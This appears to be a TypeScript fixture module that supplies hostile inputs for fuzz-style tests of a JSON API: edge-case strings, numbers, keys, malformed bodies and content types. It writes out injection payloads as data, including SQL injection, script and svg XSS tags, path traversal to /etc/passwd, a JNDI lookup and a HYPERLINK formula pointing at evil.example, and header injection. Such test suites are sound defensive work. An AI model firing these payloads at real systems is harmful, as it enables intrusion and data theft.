import fc from 'fast-check'

/**
 * The hostile values and bodies the adversarial suite draws from: what an attacker, a careless
 * pipeline or a broken serializer sends. Each entry is here because some parser, database or
 * spreadsheet treats it specially.
 */

/**
 * How deep generated values nest. Past the server's own JSON depth bound, so that bound is
 * crossed on every run, and far below where SQLite's JSON functions and structured clone give
 * out; those depths have named regression tests of their own.
 */
export const DEEP_LIMIT = 200

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\r\n',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\udc00\ud800',
  '\u202egnp.exe',
  '\u200b',
  '\ufeff',
  '\uffff',
  '\u0301',
  '👩‍👩‍👧‍👦',
  'İ',
  'ﬀ',
  '＝1+1',
  '=HYPERLINK("https://evil.example")',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '../../../etc/passwd',
  'ml_outputs/../../x',
  '..%2f..%2fx',
  '/%09/evil.example',
  '//evil.example',
  "' OR 1=1 --",
  '"; DROP TABLE annotations; --',
  '$.a[0]',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%n%x',
  '\\',
  '\r\nX-Injected: 1',
  'null',
  'NaN',
  '1e999',
  '__proto__',
  'x'.repeat(70_000),
  'x'.repeat(1_100_000),
]

/** Values past what one stored row may hold: D1 keeps at most 2,000,000 bytes in a row. */
export const OVERSIZED: readonly unknown[] = ['x'.repeat(2_100_000), new Array(300_000).fill(1.5)]

/** Past every per-request count limit (5,000 annotations by default, 1,000 log lines). */
export const MANY = 5001

export const HOSTILE_NUMBERS: readonly number[] = [
  -0,
  -1,
  0.5,
  1e-7,
  5e-324,
  1e21,
  1e308,
  -1e308,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53) - 2,
]

/** Keys that mean something to a prototype chain, a JSON path, SQL or a CSV reader. */
export const HOSTILE_KEYS: readonly string[] = ['__proto__', 'constructor', 'prototype', 'toString', '', ' ', '$', '$.a', '[0]', '"', "'", '.', '*', '\u0000', '\ud800', 'k'.repeat(10_000)]

export const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c))

export const wrongType = fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, '', 'x', [], {}, [null], { '': null })

/** `n` levels of arrays or objects, built without recursion. */
export function deepValue(n: number, kind: 'array' | 'object'): unknown {
  let v: unknown = 0
  for (let i = 0; i < n; i++) v = kind === 'array' ? [v] : { a: v }
  return v
}

/** `value` with `key` set as an own property, even `__proto__`, as JSON.parse would make it. */
export function withKey(value: unknown, key: string, v: unknown): unknown {
  const o = value !== null && typeof value === 'object' && !Array.isArray(value) ? { ...(value as object) } : {}
  Object.defineProperty(o, key, { value: v, enumerable: true, configurable: true, writable: true })
  return o
}

const utf8 = (s: string) => new TextEncoder().encode(s)
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.byteLength, 0))
  let at = 0
  for (const p of parts) (out.set(p, at), (at += p.byteLength))
  return out
}

/** Byte sequences no UTF-8 decoder should accept: stray continuation, overlong, CESU-8 surrogate, past U+10FFFF. */
const INVALID_UTF8 = [[0xff], [0x80], [0xc0, 0x80], [0xc3, 0x28], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xe2, 0x82]].map((b) => Uint8Array.from(b))

/** A change to a serialized JSON body, applied once the world's ids are in the text. */
export interface Mutation {
  name: string
  apply: (json: string) => Uint8Array
}

const mutation = (name: string, apply: (json: string) => Uint8Array | string): Mutation => ({
  name,
  apply: (json) => {
    const out = apply(json)
    return typeof out === 'string' ? utf8(out) : out
  },
})

/** Replaces the first number in the text, the way a sloppy serializer writes what JSON cannot hold. */
const firstNumber = (json: string, by: string) => json.replace(/(?<=[:[,])-?\d[\d.eE+-]*/, by)

/** Prepends a duplicate of the first key with another value; parsers disagree on which one wins. */
const duplicateKey = (json: string) => (/^\{"(?:[^"\\]|\\.)*":/.test(json) ? `{${/^\{("(?:[^"\\]|\\.)*"):/.exec(json)![1]}:"duplicate",${json.slice(1)}` : json)

export const mutations: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 6, arbitrary: fc.constant(mutation('as is', (j) => j)) },
  fc.nat().map((n) => mutation(`truncated at ${n}`, (j) => j.slice(0, n % Math.max(1, j.length)))),
  fc.tuple(fc.nat(), fc.constantFrom(...INVALID_UTF8)).map(([n, bad]) =>
    mutation(`invalid UTF-8 ${[...bad].map((b) => b.toString(16)).join(' ')} at ${n}`, (j) => {
      const bytes = utf8(j)
      const at = n % (bytes.byteLength + 1)
      return concat(bytes.slice(0, at), bad, bytes.slice(at))
    }),
  ),
  fc.constant(mutation('UTF-8 BOM first', (j) => concat(Uint8Array.from([0xef, 0xbb, 0xbf]), utf8(j)))),
  fc.constant(mutation('UTF-16LE', (j) => new Uint8Array(Uint16Array.from(j, (c) => c.charCodeAt(0)).buffer))),
  fc.constant(mutation('trailing garbage', (j) => `${j} garbage`)),
  fc.constant(mutation('two documents', (j) => `${j}\n${j}`)),
  fc.constant(mutation('comment', (j) => `/* c */${j}`)),
  fc.constant(mutation('duplicate key', duplicateKey)),
  fc.constantFrom('NaN', 'Infinity', '-Infinity', '1e999', '-', '01', '0x10', '9'.repeat(400), '1.', '.5').map((lit) => mutation(`number as ${lit.slice(0, 12)}`, (j) => firstNumber(j, lit))),
  fc.constantFrom('', ' ', 'null', 'true', '0', '""', '[]', '[{}]', '{', '}', '{"":}', "{'a':1}", '\u0000', '[]'.repeat(1000), `${'['.repeat(DEEP_LIMIT)}${']'.repeat(DEEP_LIMIT)}`).map((text) =>
    mutation(`replaced by ${JSON.stringify(text.slice(0, 12))}`, () => text),
  ),
)

/** Content types a client might send a JSON body with; the first is the right one. */
export const contentTypes: fc.Arbitrary<string | null> = fc.oneof(
  { weight: 12, arbitrary: fc.constant('application/json') },
  fc.constantFrom<string | null>(
    'application/json; charset=utf-8',
    'APPLICATION/JSON',
    'application/vnd.loupe+json',
    'application/json; charset=utf-16',
    'application/json; foo',
    'application/json-seq',
    'application/jsonx',
    'application/json, text/plain',
    'text/plain',
    'text/json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    '',
    null,
  ),
)
